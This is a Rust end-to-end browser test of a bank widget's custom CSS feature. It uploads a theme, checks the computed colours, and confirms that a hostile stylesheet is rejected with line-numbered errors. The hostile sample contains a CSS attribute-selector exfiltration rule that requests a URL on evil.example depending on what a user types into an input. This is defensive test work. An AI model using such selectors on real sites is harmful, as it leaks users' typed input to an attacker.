//! Custom CSS in a real browser: upload the seed guide's example, see the
//! preview change, see the theme on a real link, get a hostile file's
//! problems with their lines, and restore the default.

use bankport_e2e::{Browser, RedirectReceiver, Server, find};
use serde_json::json;

/// The seed guide's example, exactly as integrators copy it.
const SEED_EXAMPLE: &str = include_str!("../../backend/src/css/tests/themes/seed_guide.css");

const HOSTILE: &str = "#title-select-bank { color: red; }
#background { position: fixed; }
#input-search-bank[value^=\"a\"] { background: url(https://evil.example/a); }
";

/// `getComputedStyle(selector)[property]` in the current frame.
async fn computed(browser: &Browser, selector: &str, property: &str) -> anyhow::Result<String> {
    let value = browser
        .client
        .execute(
            "const e = document.querySelector(arguments[0]); return e ? getComputedStyle(e)[arguments[1]] : null;",
            vec![json!(selector), json!(property)],
        )
        .await?;
    value
        .as_str()
        .map(str::to_owned)
        .ok_or_else(|| anyhow::anyhow!("{selector} not found"))
}

/// The colours the preview frame shows, once its chooser is there.
async fn preview_colours(browser: &Browser) -> anyhow::Result<(String, String)> {
    let frame = browser.element("#css-preview-frame").await?;
    frame.enter_frame().await?;
    browser.element("#bank-box").await?;
    // The theme loads before the chooser shows (or the widget gives up).
    let title = computed(browser, "#title-select-bank", "color").await?;
    let background = computed(browser, "#background", "backgroundColor").await?;
    browser.client.enter_parent_frame().await?;
    Ok((title, background))
}

fn css_file(dir: &std::path::Path, name: &str, css: &str) -> anyhow::Result<String> {
    let path = dir.join(name);
    std::fs::write(&path, css)?;
    Ok(path.display().to_string())
}

#[tokio::test]
async fn the_seed_theme_restyles_the_widget_and_hostile_files_are_explained() -> anyhow::Result<()>
{
    let server = Server::start().await?;
    let receiver = RedirectReceiver::start().await?;
    let setup = server
        .integrator_with_link("css@example.com", &receiver.callback())
        .await?;
    let mut browser =
        Browser::start("the_seed_theme_restyles_the_widget_and_hostile_files_are_explained")
            .await?;
    let files = tempfile::tempdir()?;
    let link = server.url(&format!("/link?token={}", setup.link_token));

    // The default look, as end users see it.
    browser.open(&link, "#bank-box").await?;
    let default_title = computed(&browser, "#title-select-bank", "color").await?;
    let default_background = computed(&browser, "#background", "backgroundColor").await?;

    browser
        .log_in(&server, &setup.email, &setup.password)
        .await?;
    browser.click(&find::link("Custom CSS")).await?;
    browser.expect_text("You use the default theme.").await?;
    assert_eq!(
        preview_colours(&browser).await?,
        (default_title.clone(), default_background.clone())
    );
    browser.screenshot("default-theme").await?;

    // Choose the seed example: checked and previewed, not yet saved.
    browser
        .element("#css-file")
        .await?
        .send_keys(&css_file(files.path(), "flanks-example.css", SEED_EXAMPLE)?)
        .await?;
    browser.expect_text("passed the checks").await?;
    browser.expect_text("Accepted with").await?;
    let (title, background) = preview_colours(&browser).await?;
    assert_eq!(title, "rgb(120, 40, 31)");
    assert_eq!(background, "rgb(205, 92, 92)");
    browser.screenshot("preview-before-saving").await?;

    browser.click(&find::button("Upload")).await?;
    browser
        .expect_text("Saved. Every link now uses this theme.")
        .await?;
    browser
        .expect_text("Current theme: flanks-example.css")
        .await?;
    browser.screenshot("saved").await?;

    // A real link now wears the theme.
    browser.open(&link, "#bank-box").await?;
    assert_eq!(
        computed(&browser, "#title-select-bank", "color").await?,
        "rgb(120, 40, 31)"
    );
    assert_eq!(
        computed(&browser, "#background", "backgroundColor").await?,
        "rgb(205, 92, 92)"
    );
    assert_eq!(
        computed(&browser, "#bank-box", "backgroundColor").await?,
        "rgb(250, 219, 217)"
    );
    browser.screenshot("widget-with-theme").await?;
    // What end users type never becomes an attribute a selector could match.
    browser.type_into("#input-search-bank", "arenal").await?;
    browser.click("#bank-box").await?;
    browser
        .type_into(&find::field("Username"), "user_good")
        .await?;
    browser
        .type_into(&find::field("Password"), "pass_good")
        .await?;
    let attributes = browser
        .client
        .execute(
            "return [...document.querySelectorAll('input')].map(i => i.getAttribute('value'));",
            vec![],
        )
        .await?;
    assert!(
        attributes.as_array().unwrap().iter().all(|v| v.is_null()),
        "{attributes}"
    );

    // A hostile file: every problem, with its line; nothing changes.
    browser
        .open(&server.url("/custom-css"), "#css-file")
        .await?;
    browser
        .element("#css-file")
        .await?
        .send_keys(&css_file(files.path(), "hostile.css", HOSTILE)?)
        .await?;
    browser.element("#css-error-list").await?;
    browser.expect_text("This file was not accepted").await?;
    let problems = browser.texts("#css-error-list li").await?;
    assert!(
        problems
            .iter()
            .any(|p| p.starts_with("Line 2, column") && p.contains("position")),
        "{problems:?}"
    );
    assert!(
        problems
            .iter()
            .any(|p| p.starts_with("Line 3, column") && p.contains("url(")),
        "{problems:?}"
    );
    browser
        .client
        .execute(
            "document.getElementById('css-errors').scrollIntoView()",
            vec![],
        )
        .await?;
    browser.screenshot("hostile-file-errors").await?;
    browser.click(&find::button("Upload")).await?;
    browser
        .expect_text("Current theme: flanks-example.css")
        .await?;

    // Inherited text styles reach the bank chooser but never the log-in form.
    browser
        .open(&server.url("/custom-css"), "#css-file")
        .await?;
    browser
        .element("#css-file")
        .await?
        .send_keys(&css_file(
            files.path(),
            "inherited.css",
            "#background { background: #CD5C5C; color: #00ff00; text-shadow: 1px 1px 0 #ff0000; }\n",
        )?)
        .await?;
    browser.expect_text("passed the checks").await?;
    browser.click(&find::button("Upload")).await?;
    browser
        .expect_text("Saved. Every link now uses this theme.")
        .await?;
    browser.open(&link, "#bank-box").await?;
    assert_eq!(
        computed(&browser, "#title-select-bank", "color").await?,
        "rgb(0, 255, 0)"
    );
    browser.click("#bank-box").await?;
    browser.element("#div-login").await?;
    assert_ne!(
        computed(&browser, "#title-login", "color").await?,
        "rgb(0, 255, 0)"
    );
    assert_eq!(
        computed(&browser, "#div-login label", "textShadow").await?,
        "none"
    );
    assert_ne!(
        computed(&browser, "#div-login label", "color").await?,
        "rgb(0, 255, 0)"
    );
    browser.screenshot("login-form-keeps-its-look").await?;
    browser
        .open(&server.url("/custom-css"), "#css-file")
        .await?;

    // Restore the default, with a confirm step.
    browser
        .click(&find::button("Restore default theme"))
        .await?;
    browser
        .expect_text("The widget will go back to its default look.")
        .await?;
    browser.screenshot("restore-confirm").await?;
    browser.click(&find::button("Confirm")).await?;
    browser.expect_text("The default theme is back.").await?;
    browser.expect_text("You use the default theme.").await?;
    browser.open(&link, "#bank-box").await?;
    assert_eq!(
        computed(&browser, "#title-select-bank", "color").await?,
        default_title
    );
    assert_eq!(
        computed(&browser, "#background", "backgroundColor").await?,
        default_background
    );
    browser.screenshot("widget-default-again").await?;
    browser.close().await
}
